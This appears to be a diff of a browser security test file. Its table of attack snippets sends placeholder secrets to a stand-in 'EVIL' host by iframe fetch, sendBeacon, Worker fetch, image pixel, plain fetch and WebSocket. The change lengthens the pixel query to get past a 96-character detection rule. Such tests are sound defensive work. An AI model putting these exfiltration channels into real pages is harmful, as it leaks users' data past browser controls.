@@ -21,7 +21,8 @@ const ATTACKS: Record<string, string> = {
      return f.contentWindow.fetch(EVIL + '/iframe-post', { method: 'POST', body: 'secret=1' }).catch(() => 0); })()`,
   'sendBeacon': `navigator.sendBeacon(EVIL + '/beacon', 'secret=1')`,
   'fetch POST from a Worker': `new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "/worker-post', { method: 'POST', body: 'secret=1' }).then(() => postMessage(1), () => postMessage(0))"], { type: 'text/javascript' }))); w.onmessage = done; setTimeout(done, 3000); })`,
-  'image pixel with a query': `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = EVIL + '/pixel?d=hello'; })`,
+  // A dependency with no session data within 96 characters is a page's dependency now (issue 37): this one carries more.
+  'image pixel with a query': `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = EVIL + '/pixel?d=' + 'hello-'.repeat(20); })`,
   'GET fetch off the list': `fetch(EVIL + '/get').catch(() => 0)`,
   'WebSocket': `new Promise((done) => { const s = new WebSocket(EVIL.replace('http', 'ws') + '/ws'); s.onopen = () => { s.send('secret'); done(1); }; s.onerror = () => done(0); setTimeout(done, 3000); })`,
 };
